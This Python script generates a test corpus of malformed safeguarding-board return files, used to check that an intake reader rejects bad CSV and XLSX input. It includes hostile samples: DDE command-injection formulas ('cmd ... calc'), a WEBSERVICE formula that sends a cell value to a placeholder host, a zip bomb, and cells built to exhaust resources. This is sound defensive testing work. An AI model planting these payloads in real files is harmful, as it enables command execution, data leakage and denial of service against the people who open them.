"""Write the bad-input corpus: small partner-return files, each wrong in one way (or, for the
controls, written in an unusual way that must still pass). `cases.yaml` says what each must give.

Every file starts from a valid 2014-15 Q2 return for Southend (a training return from Southend
Hospital as CSV, a single-assessment return from children's services as XLSX, with values like
the demo's) and breaks one thing; each builder below is named after its file, and cases.yaml
says what is wrong with it. The output is reproducible byte for byte (fixed times inside
workbooks and zips), so re-running rewrites the same files. The one file too large to commit,
`oversized.csv`, is written only when a test needs it, by `write_oversized` (see GENERATED).

Usage: .venv/bin/python tests/corpus/make_corpus.py [--out DIR]
"""

from __future__ import annotations

import argparse
import csv
import io
import re
import struct
import sys
import zipfile
from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path

import openpyxl
from openpyxl.workbook.workbook import Workbook

from lscb_metrics.intake.read import MB
from lscb_metrics.returns.read import MAX_CELL_CHARS, MAX_FILE_MB, MAX_ROWS, MAX_UNPACKED_MB
from lscb_metrics.xlsx import reproducible_ooxml, workbook_bytes

CORPUS_DIR = Path(__file__).resolve().parent
OVERSIZED = "oversized.csv"
START, END = date(2014, 7, 1), date(2014, 9, 30)
ZIP_TIME = (2014, 1, 1, 0, 0, 0)
EXCEL_EPOCH = date(1899, 12, 30)

Row = list[object]
Cover = list[tuple[str, object]]

TRAINING_COVER: Cover = [
    ("Return type", "training"),
    ("Agency code", "SUH"),
    ("Local authority code", "E06000033"),
    ("Period start", START.isoformat()),
    ("Period end", END.isoformat()),
]
TRAINING_HEADER = ["Training level", "Staff requiring training", "Staff trained and in date"]
TRAINING_ROWS: list[Row] = [["level_1", 1480, 1362], ["level_2", 620, 571], ["level_3", 210, 188]]

ASSESSMENTS_COVER: Cover = [
    ("Return type", "assessments"),
    ("Agency code", "SBC-CSC"),
    ("Local authority code", "E06000033"),
    ("Period start", START),
    ("Period end", END),
]
ASSESSMENTS_HEADER = [
    "Assessments completed",
    "Completed within the local target",
    "Completed within 45 working days",
    "Local target (working days)",
]
ASSESSMENTS_ROW: Row = [336, 314, 323, 40]

#: file name -> the function that writes its bytes
BUILDERS: dict[str, Callable[[], bytes]] = {}


def corpus_file(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register the decorated function as the builder of corpus file `name`."""

    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        BUILDERS[name] = build
        return build

    return register


# --- writers ------------------------------------------------------------------------------------


def csv_text(cover: Cover, header: Sequence[str], rows: Sequence[Row]) -> str:
    """A CSV return as Excel writes it: cover columns then data columns, CRLF line ends."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([label for label, _ in cover] + list(header))
    for row in rows:
        writer.writerow([value for _, value in cover] + list(row))
    return buffer.getvalue()


def training_csv(
    cover: Cover = TRAINING_COVER,
    header: Sequence[str] = TRAINING_HEADER,
    rows: Sequence[Row] | None = None,
    encoding: str = "utf-8",
) -> bytes:
    """The training return as CSV bytes, with any part replaced."""
    return csv_text(cover, header, TRAINING_ROWS if rows is None else rows).encode(encoding)


def separated_text(separator: str) -> str:
    """The training return as text with its values separated by `separator`, not commas."""
    return csv_text(TRAINING_COVER, TRAINING_HEADER, TRAINING_ROWS).replace(",", separator)


def training_rows(row: int, column: int, value: object) -> list[Row]:
    """The training rows with one cell replaced."""
    rows = [list(r) for r in TRAINING_ROWS]
    rows[row][column] = value
    return rows


def with_cover(cover: Cover, values: dict[str, object]) -> Cover:
    """`cover` with the values of some of its labels replaced."""
    return [(label, values.get(label, old)) for label, old in cover]


def assessments_workbook(
    cover: Cover = ASSESSMENTS_COVER,
    header: Sequence[str] = ASSESSMENTS_HEADER,
    rows: Sequence[Row] = (ASSESSMENTS_ROW,),
) -> Workbook:
    """The assessments return as a workbook: a titled Cover sheet and a Data sheet."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Cover"
    sheet["A1"] = "Southend LSCB partner return"
    for number, (label, value) in enumerate(cover, start=3):
        sheet.cell(number, 1, label)
        cell = sheet.cell(number, 2, value)
        if isinstance(value, date):
            cell.number_format = "dd/mm/yyyy"
    data = workbook.create_sheet("Data")
    data.append(list(header))
    for row in rows:
        data.append(list(row))
    workbook.properties.creator = "tests/corpus/make_corpus.py"
    return workbook


def assessments_xlsx(
    cover: Cover = ASSESSMENTS_COVER,
    header: Sequence[str] = ASSESSMENTS_HEADER,
    rows: Sequence[Row] = (ASSESSMENTS_ROW,),
) -> bytes:
    """The assessments return as reproducible XLSX bytes, with any part replaced."""
    return workbook_bytes(assessments_workbook(cover, header, rows))


def with_data_cells(content: bytes, cells: dict[str, str]) -> bytes:
    """XLSX bytes with cells of the Data sheet replaced by raw XML: how a formula gets a saved
    result (or none) whatever openpyxl writes."""
    part = "xl/worksheets/sheet2.xml"
    return with_member(content, part, lambda xml: _cells_replaced(xml, cells))


def _cells_replaced(xml: bytes, cells: dict[str, str]) -> bytes:
    """Sheet XML with each `<c r="...">` element named in `cells` replaced."""
    for reference, element in cells.items():
        pattern = re.compile(rb'<c r="' + reference.encode() + rb'"[^>]*?(?:/>|>.*?</c>)')
        xml, count = pattern.subn(element.encode(), xml)
        if count != 1:
            raise ValueError(f"cell {reference} not found once in the Data sheet")
    return xml


def with_member(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """XLSX bytes with one zip member changed, still reproducible."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            payload = source.read(info.filename)
            target.writestr(info.filename, change(payload) if info.filename == name else payload)
    return reproducible_ooxml(out.getvalue())


def with_member_added(content: bytes, name: str, payload: bytes) -> bytes:
    """XLSX bytes with one more zip member, still reproducible."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
        target.writestr(name, payload)
    return reproducible_ooxml(out.getvalue())


def zip_bytes(members: Sequence[tuple[str, bytes]]) -> bytes:
    """A zip of the members (the first stored uncompressed, as ODF requires its mimetype)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for position, (name, payload) in enumerate(members):
            entry = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            entry.compress_type = zipfile.ZIP_STORED if position == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(entry, payload)
    return out.getvalue()


def opendocument_bytes(title: str) -> bytes:
    """A minimal OpenDocument spreadsheet (.ods) whose content is a title."""
    content = f'<?xml version="1.0" encoding="UTF-8"?><office:document-content>{title}'
    return zip_bytes(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
            ("content.xml", (content + "</office:document-content>").encode()),
        ]
    )


def compound_file(streams: Sequence[str]) -> bytes:
    """A minimal Compound File (OLE2) holding empty streams with these names: the container of
    Excel 97-2003 workbooks and of password-protected (encrypted) workbooks."""
    free, end_of_chain, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    fat = struct.pack("<II", fat_sector, end_of_chain) + struct.pack("<I", free) * 126
    names = ["Root Entry", *streams]
    entries = b"".join(
        _directory_entry(
            name,
            kind=5 if number == 0 else 2,
            right=number + 1 if 0 < number < len(names) - 1 else no_stream,
            child=1 if number == 0 and streams else no_stream,
        )
        for number, name in enumerate(names)
    )
    directory = entries + _directory_entry("", kind=0, right=no_stream, child=no_stream) * (
        4 - len(names) % 4 if len(names) % 4 else 0
    )
    return header + fat + directory


def _directory_entry(name: str, kind: int, right: int, child: int) -> bytes:
    """One 128-byte directory entry of a Compound File: an empty stream, storage or root."""
    encoded = name.encode("utf-16-le") + b"\x00\x00" if name else b""
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBB", len(encoded), kind, 1)
        + struct.pack("<III", 0xFFFFFFFF, right, child)
        + bytes(16 + 4 + 8 + 8)
        + struct.pack("<IQ", 0xFFFFFFFE, 0)
    )


def excel_serial(day: date) -> int:
    """`day` as the number Excel stores for it."""
    return (day - EXCEL_EPOCH).days


# --- encoding -----------------------------------------------------------------------------------


@corpus_file("cp1252_pound_in_count.csv")
def cp1252_pound_in_count() -> bytes:
    return training_csv(rows=training_rows(0, 1, "£1,480"), encoding="cp1252")


@corpus_file("utf16_unicode_text.csv")
def utf16_unicode_text() -> bytes:
    # with a byte order mark, as Excel's 'Unicode Text' saves it
    return separated_text("\t").encode("utf-16")


@corpus_file("undecodable_bytes.csv")
def undecodable_bytes() -> bytes:
    return training_csv(rows=training_rows(0, 0, "level_1")) + b"\x81\x8d\x8f\x90,1,1\r\n"


@corpus_file("utf8_bom.csv")
def utf8_bom() -> bytes:
    return training_csv(encoding="utf-8-sig")


@corpus_file("cp1252_pound_in_notes.csv")
def cp1252_pound_in_notes() -> bytes:
    rows = [[*row, note] for row, note in zip(TRAINING_ROWS, ["£95 a place", "", ""], strict=True)]
    return training_csv(header=[*TRAINING_HEADER, "Notes"], rows=rows, encoding="cp1252")


# --- file formats -------------------------------------------------------------------------------


@corpus_file("legacy_excel.xls")
def legacy_excel() -> bytes:
    return compound_file(["Workbook", "\x05SummaryInformation"])


@corpus_file("opendocument.ods")
def opendocument() -> bytes:
    return opendocument_bytes("Southend LSCB partner return")


@corpus_file("macro_enabled.xlsm")
def macro_enabled() -> bytes:
    workbook = assessments_workbook()
    workbook.properties.title = "macro-enabled copy"  # not the same bytes as another file
    return workbook_bytes(workbook)


@corpus_file("tab_separated.txt")
def tab_separated() -> bytes:
    return separated_text("\t").encode()


@corpus_file("csv_named_xlsx.xlsx")
def csv_named_xlsx() -> bytes:
    return training_csv()


@corpus_file("xlsx_named_csv.csv")
def xlsx_named_csv() -> bytes:
    return assessments_xlsx()


@corpus_file("xls_named_xlsx.xlsx")
def xls_named_xlsx() -> bytes:
    return compound_file(["Workbook"])


@corpus_file("password_protected.xlsx")
def password_protected() -> bytes:
    return compound_file(["EncryptionInfo", "EncryptedPackage"])


@corpus_file("truncated.xlsx")
def truncated() -> bytes:
    content = assessments_xlsx()
    return content[: len(content) // 2]


@corpus_file("zip_not_workbook.xlsx")
def zip_not_workbook() -> bytes:
    return zip_bytes([("return.csv", training_csv())])


@corpus_file("ods_named_xlsx.xlsx")
def ods_named_xlsx() -> bytes:
    return opendocument_bytes("Single assessment timeliness")


@corpus_file("pdf_named_csv.csv")
def pdf_named_csv() -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
    )


@corpus_file("zip_bomb.xlsx")
def zip_bomb() -> bytes:
    # XML allows any amount of white space between elements: it compresses a thousandfold
    padding = b" " * ((MAX_UNPACKED_MB + 1) * MB)
    return with_member(
        assessments_xlsx(),
        "xl/worksheets/sheet2.xml",
        lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding),
    )


@corpus_file("stray_cell_xfd1048576.xlsx")
def stray_cell_xfd1048576() -> bytes:
    # one cell in the sheet's last row and column: 5 KB that would build 17 billion cells
    stray = '<c r="A2"><v>336</v></c><c r="XFD1048576"><v>1</v></c>'
    return with_data_cells(assessments_xlsx(), {"A2": stray})


@corpus_file("dimension_record_d1048576.xlsx")
def dimension_record_d1048576() -> bytes:
    return with_member(
        assessments_xlsx(),
        "xl/worksheets/sheet2.xml",
        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:D1048576"', xml),
    )


@corpus_file("cell_too_long.csv")
def cell_too_long() -> bytes:
    return training_csv(rows=training_rows(0, 1, "1" * (MAX_CELL_CHARS + 1)))


@corpus_file("too_many_digits.csv")
def too_many_digits() -> bytes:
    return training_csv(rows=training_rows(0, 1, "1" * 41))


@corpus_file("huge_number_in_xlsx.xlsx")
def huge_number_in_xlsx() -> bytes:
    # ten million digits in a count cell, 10 KB zipped: int() of it would take minutes
    huge = '<c r="A2"><v>' + "7" * 10_000_000 + "</v></c>"
    return with_data_cells(assessments_xlsx(), {"A2": huge})


@corpus_file("too_many_rows.csv")
def too_many_rows() -> bytes:
    rows = [[f"level_{n % 4 + 1}", 10, 9] for n in range(MAX_ROWS + 1)]
    return training_csv(rows=rows)


@corpus_file("macros_vba_project.xlsx")
def macros_vba_project() -> bytes:
    return with_member_added(assessments_xlsx(), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")


@corpus_file("external_link.xlsx")
def external_link() -> bytes:
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return with_member_added(assessments_xlsx(), "xl/externalLinks/externalLink1.xml", link)


@corpus_file("webservice_formula.xlsx")
def webservice_formula() -> bytes:
    cell = '<c r="A2"><f>WEBSERVICE("http://example.invalid/?"&amp;B2)</f><v>336</v></c>'
    return with_data_cells(assessments_xlsx(), {"A2": cell})


@corpus_file("filterxml_formula.xlsx")
def filterxml_formula() -> bytes:
    cell = '<c r="A2"><f>FILTERXML("&lt;a&gt;336&lt;/a&gt;","//a")</f><v>336</v></c>'
    return with_data_cells(assessments_xlsx(), {"A2": cell})


@corpus_file("semicolon_separated.csv")
def semicolon_separated() -> bytes:
    return separated_text(";").encode()


@corpus_file("stray_quote.csv")
def stray_quote() -> bytes:
    return training_csv(rows=training_rows(1, 0, "level_2")).replace(b"level_2", b'"level_2', 1)


def write_oversized(path: Path) -> Path:
    """A CSV return just over the size limit (too large to commit: written when needed)."""
    text = csv_text(TRAINING_COVER, TRAINING_HEADER, TRAINING_ROWS)
    body = text.split("\r\n", 1)[1].encode()
    copies = MAX_FILE_MB * MB // len(body) + 2
    path.write_bytes(text.encode() + body * copies)
    return path


# --- structure ----------------------------------------------------------------------------------


@corpus_file("empty.xlsx")
def empty() -> bytes:
    return b""


@corpus_file("blank_lines.csv")
def blank_lines() -> bytes:
    return b",,,\r\n , ,\r\n\r\n"


@corpus_file("headers_only.csv")
def headers_only() -> bytes:
    return training_csv(rows=[])


@corpus_file("headers_only.xlsx")
def headers_only_xlsx() -> bytes:
    return assessments_xlsx(rows=[])


@corpus_file("no_data_sheet.xlsx")
def no_data_sheet() -> bytes:
    workbook = assessments_workbook()
    workbook["Data"].title = "Figures"
    return workbook_bytes(workbook)


@corpus_file("empty_data_sheet.xlsx")
def empty_data_sheet() -> bytes:
    return assessments_xlsx(header=[], rows=[])


@corpus_file("merged_cells.xlsx")
def merged_cells() -> bytes:
    workbook = assessments_workbook()
    data = workbook["Data"]
    data.insert_rows(1)
    data["A1"] = "Single assessment timeliness, July to September 2014"
    data.merge_cells("A1:D1")
    return workbook_bytes(workbook)


@corpus_file("hidden_data_sheet.xlsx")
def hidden_data_sheet() -> bytes:
    workbook = assessments_workbook()
    workbook["Data"].sheet_state = "hidden"
    return workbook_bytes(workbook)


@corpus_file("hidden_rows.xlsx")
def hidden_rows() -> bytes:
    # last quarter's figures left in a row hidden by a filter: they would be added in unseen
    workbook = assessments_workbook(rows=[ASSESSMENTS_ROW, [371, 349, 358, 40]])
    workbook["Data"].row_dimensions[3].hidden = True
    return workbook_bytes(workbook)


@corpus_file("hidden_column.xlsx")
def hidden_column() -> bytes:
    workbook = assessments_workbook(
        header=[*ASSESSMENTS_HEADER, "Assessments completed"], rows=[[*ASSESSMENTS_ROW, 371]]
    )
    workbook["Data"].column_dimensions["E"].hidden = True
    return workbook_bytes(workbook)


@corpus_file("formula_no_saved_result.xlsx")
def formula_no_saved_result() -> bytes:
    # as a script or a web export writes a formula: without the result Excel would save
    return assessments_xlsx(rows=[["=300+36", *ASSESSMENTS_ROW[1:]]])


@corpus_file("formula_error_result.xlsx")
def formula_error_result() -> bytes:
    return with_data_cells(
        assessments_xlsx(),
        {"B2": '<c r="B2" t="e"><f>314/0</f><v>#DIV/0!</v></c>'},
    )


@corpus_file("unquoted_comma_count.csv")
def unquoted_comma_count() -> bytes:
    # 1,362 written without quotes: read as 1 trained of 1,480 and a value under no header
    return training_csv().replace(b",1362\r\n", b",1,362\r\n", 1)


@corpus_file("totals_row.csv")
def totals_row() -> bytes:
    return training_csv(rows=[*TRAINING_ROWS, ["Total", 2310, 2121]])


@corpus_file("totals_row_monthly.xlsx")
def totals_row_monthly() -> bytes:
    months = [
        ["July", 112, 105, 108, 40],
        ["August", 98, 92, 94, 40],
        ["September", 126, 117, 121, 40],
    ]
    return assessments_xlsx(
        header=["Month", *ASSESSMENTS_HEADER], rows=[*months, ["Total", 336, 314, 323, 40]]
    )


@corpus_file("missing_column.csv")
def missing_column() -> bytes:
    return training_csv(header=TRAINING_HEADER[:2], rows=[row[:2] for row in TRAINING_ROWS])


@corpus_file("duplicate_column.xlsx")
def duplicate_column() -> bytes:
    return assessments_xlsx(
        header=[*ASSESSMENTS_HEADER, "Single assessments completed"], rows=[[*ASSESSMENTS_ROW, 336]]
    )


@corpus_file("header_in_row_2.xlsx")
def header_in_row_2() -> bytes:
    workbook = assessments_workbook()
    workbook["Data"].insert_rows(1)
    workbook["Data"]["A1"] = "Single assessment timeliness"
    return workbook_bytes(workbook)


# --- values -------------------------------------------------------------------------------------


@corpus_file("not_applicable.csv")
def not_applicable() -> bytes:
    return training_csv(rows=training_rows(2, 2, "N/A"))


@corpus_file("child_name_in_count.csv")
def child_name_in_count() -> bytes:
    return training_csv(rows=training_rows(0, 2, "Jayden Smith"))


@corpus_file("date_of_birth_in_count.csv")
def date_of_birth_in_count() -> bytes:
    return training_csv(rows=training_rows(0, 1, "17/05/2009"))


@corpus_file("postcode_in_count.csv")
def postcode_in_count() -> bytes:
    return training_csv(rows=training_rows(1, 1, "SS12AB"))


@corpus_file("child_name_in_area_code.csv")
def child_name_in_area_code() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Local authority code": "Jayden Smith"}))


@corpus_file("postcode_in_agency_code.csv")
def postcode_in_agency_code() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "SS12AB"}))


@corpus_file("child_name_in_code_column.csv")
def child_name_in_code_column() -> bytes:
    return training_csv(rows=training_rows(1, 0, "Jayden Smith"))


@corpus_file("child_name_as_two_keys.csv")
def child_name_as_two_keys() -> bytes:
    rows = training_rows(1, 0, "Jayden Smith")
    rows[2][0] = "Jayden Smith"
    return training_csv(rows=rows)


@corpus_file("child_name_in_key_of_failing_check.csv")
def child_name_in_key_of_failing_check() -> bytes:
    rows = training_rows(1, 0, "Jayden Smith")
    rows[1][2] = 700  # trained, of the 620 requiring training
    return training_csv(rows=rows)


@corpus_file("header_row_missing.csv")
def header_row_missing() -> bytes:
    # The data's headings replaced by its first row: a child's name typed as the level.
    first, *rest = training_rows(0, 0, "Jayden Smith")
    return training_csv(header=[str(cell) for cell in first], rows=rest)


@corpus_file("header_row_missing_name_twice.csv")
def header_row_missing_name_twice() -> bytes:
    # The data's headings replaced by its first row, which holds a child's name twice.
    first, *rest = training_rows(0, 0, "Jayden Smith")
    first[1] = "Jayden Smith"
    return training_csv(header=[str(cell) for cell in first], rows=rest)


@corpus_file("headings_missing.csv")
def headings_missing() -> bytes:
    # Saved without its line of headings: its first line of figures is read as them.
    lines = csv_text(TRAINING_COVER, TRAINING_HEADER, TRAINING_ROWS).splitlines(keepends=True)
    return "".join(lines[1:]).encode("utf-8")


@corpus_file("header_row_missing.xlsx")
def header_row_missing_xlsx() -> bytes:
    return assessments_xlsx(header=[str(cell) for cell in ASSESSMENTS_ROW])


@corpus_file("dash.csv")
def dash() -> bytes:
    return training_csv(rows=training_rows(1, 2, "-"))


@corpus_file("negative_count.csv")
def negative_count() -> bytes:
    return training_csv(rows=training_rows(1, 1, "-3"))


@corpus_file("negative_count.xlsx")
def negative_count_xlsx() -> bytes:
    return assessments_xlsx(rows=[[336, 314, -3, 40]])


@corpus_file("fractional_count.csv")
def fractional_count() -> bytes:
    return training_csv(rows=training_rows(0, 2, "1362.5"))


@corpus_file("fractional_count.xlsx")
def fractional_count_xlsx() -> bytes:
    return assessments_xlsx(rows=[[336.5, 314, 323, 40]])


@corpus_file("blank_count.csv")
def blank_count() -> bytes:
    return training_csv(rows=training_rows(2, 1, ""))


@corpus_file("local_target_out_of_range.xlsx")
def local_target_out_of_range() -> bytes:
    return assessments_xlsx(rows=[[*ASSESSMENTS_ROW[:3], 60]])


@corpus_file("unknown_level.csv")
def unknown_level() -> bytes:
    return training_csv(rows=training_rows(2, 0, "Level 5"))


@corpus_file("within_target_more_than_completed.xlsx")
def within_target_more_than_completed() -> bytes:
    return assessments_xlsx(rows=[[336, 341, 345, 40]])


@corpus_file("trained_more_than_requiring.csv")
def trained_more_than_requiring() -> bytes:
    return training_csv(rows=training_rows(2, 2, 215))


@corpus_file("duplicate_level.csv")
def duplicate_level() -> bytes:
    return training_csv(rows=training_rows(2, 0, "level_2"))


@corpus_file("formula_text_equals.csv")
def formula_text_equals() -> bytes:
    return training_csv(rows=training_rows(0, 1, '=HYPERLINK("http://example.invalid","1480")'))


@corpus_file("formula_text_plus_minus_at.csv")
def formula_text_plus_minus_at() -> bytes:
    rows = [["level_1", "+1480", 1362], ["level_2", 620, "-571+0"], ["level_3", "@SUM(1,209)", 188]]
    return training_csv(rows=rows)


@corpus_file("formula_text_in_xlsx.xlsx")
def formula_text_in_xlsx() -> bytes:
    workbook = assessments_workbook()
    cell = workbook["Data"]["A2"]
    cell.value = "=cmd|' /C calc'!A0"
    cell.data_type = "s"  # typed in as text, as a partner's system might export it
    return workbook_bytes(workbook)


@corpus_file("formula_text_agency.csv")
def formula_text_agency() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "=cmd|' /C calc'!A0"}))


@corpus_file("plus_sign_count.csv")
def plus_sign_count() -> bytes:
    return training_csv(rows=training_rows(0, 1, "+1480"))


@corpus_file("fullwidth_digits.csv")
def fullwidth_digits() -> bytes:
    return training_csv(rows=training_rows(0, 1, "\uff11\uff14\uff18\uff10"))


@corpus_file("nbsp_padded_number.csv")
def nbsp_padded_number() -> bytes:
    return training_csv(rows=training_rows(0, 1, "\u00a01480\u00a0"))


@corpus_file("zero_width_agency.csv")
def zero_width_agency() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "SU\u200bH"}))


@corpus_file("rtl_override_agency.csv")
def rtl_override_agency() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "\u202eHUS"}))


@corpus_file("date_in_count.xlsx")
def date_in_count() -> bytes:
    return assessments_xlsx(rows=[[336, 314, date(2014, 3, 23), 40]])


# --- cover --------------------------------------------------------------------------------------


@corpus_file("unknown_agency.csv")
def unknown_agency() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Agency code": "SUHFT"}))


@corpus_file("agency_not_allowed.xlsx")
def agency_not_allowed() -> bytes:
    return assessments_xlsx(cover=with_cover(ASSESSMENTS_COVER, {"Agency code": "GP"}))


@corpus_file("unknown_la.csv")
def unknown_la() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Local authority code": "E06000999"}))


@corpus_file("agency_of_another_board.csv")
def agency_of_another_board() -> bytes:
    # Southend's hospital claiming Thurrock's figures: it must not supersede Thurrock's return
    return training_csv(cover=with_cover(TRAINING_COVER, {"Local authority code": "E06000034"}))


@corpus_file("period_not_quarter.csv")
def period_not_quarter() -> bytes:
    return training_csv(cover=with_cover(TRAINING_COVER, {"Period end": "2014-08-31"}))


@corpus_file("period_across_quarters.xlsx")
def period_across_quarters() -> bytes:
    period = {"Period start": date(2014, 8, 1), "Period end": date(2014, 10, 31)}
    return assessments_xlsx(cover=with_cover(ASSESSMENTS_COVER, period))


@corpus_file("period_reversed.csv")
def period_reversed() -> bytes:
    period = {"Period start": END.isoformat(), "Period end": START.isoformat()}
    return training_csv(cover=with_cover(TRAINING_COVER, period))


@corpus_file("period_not_a_date.xlsx")
def period_not_a_date() -> bytes:
    return assessments_xlsx(cover=with_cover(ASSESSMENTS_COVER, {"Period start": "Q2 2014"}))


@corpus_file("period_year_number.xlsx")
def period_year_number() -> bytes:
    return assessments_xlsx(cover=with_cover(ASSESSMENTS_COVER, {"Period end": 2014}))


@corpus_file("return_type_unknown.xlsx")
def return_type_unknown() -> bytes:
    return assessments_xlsx(cover=with_cover(ASSESSMENTS_COVER, {"Return type": "Assessment data"}))


@corpus_file("return_type_mismatch.xlsx")
def return_type_mismatch() -> bytes:
    return assessments_xlsx(cover=with_cover(ASSESSMENTS_COVER, {"Return type": "referrals"}))


@corpus_file("missing_cover_field.xlsx")
def missing_cover_field() -> bytes:
    cover = [(label, value) for label, value in ASSESSMENTS_COVER if label != "Agency code"]
    return assessments_xlsx(cover=cover)


@corpus_file("cover_differs.csv")
def cover_differs() -> bytes:
    lines = training_csv().decode().split("\r\n")
    lines[3] = lines[3].replace("SUH", "SEPT", 1)
    return "\r\n".join(lines).encode()


@corpus_file("duplicate_cover_field.xlsx")
def duplicate_cover_field() -> bytes:
    return assessments_xlsx(cover=[*ASSESSMENTS_COVER, ("Agency", "SBC-EY")])


# --- controls: unusual, but a partner's file that must pass -------------------------------------


@corpus_file("headers_other_case.csv")
def headers_other_case() -> bytes:
    cover = [(label.upper(), value) for label, value in TRAINING_COVER]
    return training_csv(cover=cover, header=[h.upper() for h in TRAINING_HEADER])


@corpus_file("headers_extra_spaces.csv")
def headers_extra_spaces() -> bytes:
    cover = [(f" {label.replace(' ', '  ')} ", value) for label, value in TRAINING_COVER]
    header = [f"  {h.replace(' ', '   ')}  " for h in TRAINING_HEADER]
    return training_csv(cover=cover, header=header)


@corpus_file("headers_aliases.xlsx")
def headers_aliases() -> bytes:
    aliases = ["Return", "Organisation code", "LA", "From", "To"]
    cover = [(alias, value) for alias, (_, value) in zip(aliases, ASSESSMENTS_COVER, strict=True)]
    header = [
        "Single assessments completed",
        "Within local timescale",
        "Within 45 working days",
        "Local timescale",
    ]
    return assessments_xlsx(cover=cover, header=header)


@corpus_file("thousands_separator.csv")
def thousands_separator() -> bytes:
    return training_csv(rows=training_rows(0, 1, "1,480"))


@corpus_file("thousands_separator_text.xlsx")
def thousands_separator_text() -> bytes:
    return assessments_xlsx(rows=[["1,336", 1314, 1323, 40]])


@corpus_file("decimal_zeros.csv")
def decimal_zeros() -> bytes:
    return training_csv(rows=training_rows(1, 1, "620.00"))


@corpus_file("excel_serial_dates.xlsx")
def excel_serial_dates() -> bytes:
    cover = [
        (label, excel_serial(value) if isinstance(value, date) else value)
        for label, value in ASSESSMENTS_COVER
    ]
    return assessments_xlsx(cover=cover)


@corpus_file("formula_saved_results.xlsx")
def formula_saved_results() -> bytes:
    return with_data_cells(
        assessments_xlsx(),
        {
            "A2": '<c r="A2"><f>300+36</f><v>336</v></c>',
            "C2": '<c r="C2"><f>B2+9</f><v>323</v></c>',
        },
    )


@corpus_file("formula_empty_text_result.xlsx")
def formula_empty_text_result() -> bytes:
    content = assessments_xlsx(
        header=[*ASSESSMENTS_HEADER, "Check"], rows=[[*ASSESSMENTS_ROW, "placeholder"]]
    )
    check = '<c r="E2" t="str"><f>IF(B2&lt;=A2,"","too many")</f><v></v></c>'
    return with_data_cells(content, {"E2": check})


@corpus_file("hidden_lists_sheet.xlsx")
def hidden_lists_sheet() -> bytes:
    workbook = assessments_workbook()
    lists = workbook.create_sheet("Lists")
    lists["A1"] = "SBC-CSC"
    lists.sheet_state = "hidden"
    return workbook_bytes(workbook)


#: file name -> the function that writes it to a path: files too large to commit
GENERATED: dict[str, Callable[[Path], Path]] = {OVERSIZED: write_oversized}


def write_corpus(folder: Path) -> list[Path]:
    """Every corpus file written into `folder`; their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, build in BUILDERS.items():
        path = folder / name
        path.write_bytes(build())
        paths.append(path)
    return paths


def main(argv: Sequence[str] | None = None) -> int:
    """Write the corpus (default: beside this script)."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=CORPUS_DIR, help="output folder")
    args = parser.parse_args(argv)
    paths = write_corpus(args.out)
    print(f"wrote {len(paths)} files to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
